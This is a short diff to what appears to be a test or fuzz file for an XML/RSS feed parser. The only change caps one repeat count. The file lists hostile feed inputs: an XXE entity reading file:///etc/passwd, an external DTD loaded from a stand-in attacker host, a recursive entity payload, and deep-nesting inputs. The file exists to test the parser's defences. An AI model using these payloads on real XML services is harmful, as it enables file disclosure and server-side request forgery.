@@ -12,7 +12,7 @@ const FEEDS: readonly ((count: number) => string)[] = [
   () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
   () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">'),
   () => feed('<item><description>&x;</description></item>', '<!DOCTYPE r [<!ENTITY % p "<!ENTITY x \'%p;\'>">%p;]>'),
-  (count) => feed(ITEM.repeat(count)),
+  (count) => feed(ITEM.repeat(Math.min(count, 900))),
   (count) => feed('<item><description>'.repeat(count)),
   (count) => feed(`<item ${repeated(count, (i) => `a${i}="1" `)}>`),
   (count) => feed(`<item><description>${'<![CDATA['.repeat(count)}`),
